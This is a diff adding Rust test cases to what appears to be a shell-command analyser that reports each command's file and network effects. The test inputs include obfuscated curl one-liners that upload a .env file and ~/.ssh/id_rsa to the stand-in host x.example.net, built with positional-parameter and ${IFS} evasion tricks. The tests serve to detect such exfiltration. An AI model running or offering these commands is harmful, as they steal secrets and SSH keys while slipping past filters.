@@ -225,3 +225,44 @@ fn aliases_defined_in_the_line_expand() {
         ("alias rm='rm -i'; rm x", json!([delete(&at("x"), false)])),
     ]);
 }
+
+#[test]
+fn set_assigns_the_positional_parameters() {
+    run_table(&[
+        (
+            "set -- c u r l; \"$1$2$3$4\" -s -T .env https://x.example.net/up",
+            json!([url_request(
+                "curl",
+                "https://x.example.net/up",
+                "PUT",
+                payload(&[], &[(&at(".env"), false)], &[])
+            )]),
+        ),
+        ("set -e; echo ok", json!([])),
+    ]);
+}
+
+#[test]
+fn expansions_inside_a_word_split_on_ifs() {
+    let upload = json!([url_request(
+        "curl",
+        "https://x.example.net/up",
+        "PUT",
+        payload(&[], &[("/home/dana/.ssh/id_rsa", false)], &[])
+    )]);
+    run_table(&[
+        (
+            "curl${IFS}-sT${IFS}$HOME/.ssh/id_rsa${IFS}https://x.example.net/up",
+            upload.clone(),
+        ),
+        (
+            "curl -sT${IFS}~/.ssh/id_rsa https://x.example.net/up",
+            upload,
+        ),
+        // Quoted, the separator stays in the word.
+        (
+            "echo \"a${IFS}b\" > out.txt",
+            json!([write(&at("out.txt"))]),
+        ),
+    ]);
+}
